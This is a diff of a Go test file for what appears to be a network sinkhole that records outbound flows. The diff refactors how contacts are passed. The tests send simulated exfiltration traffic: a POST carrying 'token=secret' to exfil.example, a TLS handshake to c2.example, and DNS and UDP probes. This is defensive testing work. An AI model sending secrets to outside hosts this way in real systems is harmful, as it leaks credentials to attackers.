@@ -68,7 +68,7 @@ func TestSinkholeRecordsFlows(t *testing.T) {
 	s := NewSinkhole(func(network string, _ int) int { return map[string]int{"tcp": 7, "udp": 8}[network] })
 	at := map[string]string{}
 	listen := onLoopback(t, at)
-	s.Contact("udp", "198.19.255.53", 53, listen)
+	s.Contact(Contact{Network: "udp", Address: "198.19.255.53", Port: 53}, listen)
 	resolver := dial(t, "udp", at["udp 198.19.255.53:53"])
 	if _, err := resolver.Write(question(t, "exfil.example.", dnsmessage.TypeA)); err != nil {
 		t.Fatal(err)
@@ -91,19 +91,19 @@ func TestSinkholeRecordsFlows(t *testing.T) {
 		t.Errorf("host of %s is %q", address, got)
 	}
 
-	s.Contact("tcp", address, 80, listen)
-	s.Contact("tcp", address, 80, listen) // served already
+	s.Contact(Contact{Network: "tcp", Address: address, Port: 80}, listen)
+	s.Contact(Contact{Network: "tcp", Address: address, Port: 80}, listen) // served already
 	plain := dial(t, "tcp", at["tcp "+address+":80"])
 	fmt.Fprint(plain, "POST /up?token=secret HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: 4\r\n\r\nbody")
 	plain.Close()
 
-	s.Contact("tcp", address, 443, listen)
+	s.Contact(Contact{Network: "tcp", Address: address, Port: 443}, listen)
 	secure := dial(t, "tcp", at["tcp "+address+":443"])
 	_ = secure.SetDeadline(time.Now().Add(200 * time.Millisecond))
 	_ = tls.Client(secure, &tls.Config{ServerName: "c2.example"}).Handshake() // nobody answers
 	secure.Close()
 
-	s.Contact("udp", "203.0.113.7", 9999, listen)
+	s.Contact(Contact{Network: "udp", Address: "203.0.113.7", Port: 9999}, listen)
 	packets := dial(t, "udp", at["udp 203.0.113.7:9999"])
 	for range 2 {
 		if _, err := packets.Write([]byte("ping")); err != nil {
@@ -156,7 +156,7 @@ func TestSinkholeRecordsFlows(t *testing.T) {
 func TestSinkholeLeavesLoopbackAlone(t *testing.T) {
 	s := NewSinkhole(func(string, int) int { return 0 })
 	for _, address := range []string{"127.0.0.1", "::1", "::ffff:127.0.0.1", "0.0.0.0", "not an address"} {
-		s.Contact("tcp", address, 80, func(network, address string, port int) (*os.File, error) {
+		s.Contact(Contact{Network: "tcp", Address: address, Port: 80}, func(network, address string, port int) (*os.File, error) {
 			t.Errorf("a socket was opened for %s", address)
 			return nil, os.ErrInvalid
 		})
